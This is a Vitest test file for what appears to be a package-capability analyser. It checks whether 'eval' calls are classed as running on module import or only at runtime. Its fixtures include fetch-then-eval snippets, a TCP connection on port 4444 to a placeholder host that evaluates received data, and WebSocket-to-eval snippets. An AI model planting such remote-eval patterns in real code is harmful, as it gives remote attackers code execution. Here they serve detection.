import { describe, expect, it } from 'vitest';
import { capabilitiesOf, profileOf } from './profile-of.ts';

const reachOf = (source: string): string | undefined =>
  capabilitiesOf(profileOf({ 'index.js': source }), 'code.evaluate')[0]?.reach;

describe('callbacks', () => {
  it.each([
    `fetch('https://a.invalid').then((r) => r.text()).then((t) => eval(t));`,
    `import https from 'node:https'; https.get('https://a.invalid', (res) => { let t = ''; res.on('data', (c) => (t += c)); res.on('end', () => eval(t)); });`,
    `setTimeout(() => eval(x), 1000);`,
    `process.nextTick(() => { setImmediate(function () { eval(x); }); });`,
    `import net from 'net'; const s = net.connect(4444, 'a.invalid', () => s.on('data', (d) => eval(String(d))));`,
    `const ws = new WebSocket('wss://a.invalid'); ws.on('message', (m) => { eval(m); });`,
    `const ws = new WebSocket('wss://a.invalid'); ws.onmessage = (m) => eval(m.data);`,
    `(async () => { eval(x); })();`,
  ])('that the top level of a module begins run when it is loaded: %s', (source) => {
    expect(reachOf(source)).toBe('import');
  });

  it.each([
    `export function later() { setTimeout(() => eval(x), 1000); }`,
    `app.on('request', (m) => eval(m));`,
    `process.on('SIGINT', () => eval(x));`,
    `process.on('message', (m) => eval(m));`,
    `self.onmessage = (m) => eval(m.data);`,
    `app.get('/run', (req) => eval(req.body));`,
    `server.on('connection', (s) => s.on('data', (d) => eval(d)));`,
    `import http from 'http'; http.createServer((req) => req.on('data', (d) => eval(d)));`,
    `const setTimeout = (f) => f; setTimeout(() => eval(x));`,
  ])('that wait for others do not: %s', (source) => {
    expect(reachOf(source)).toBe('runtime');
  });
});
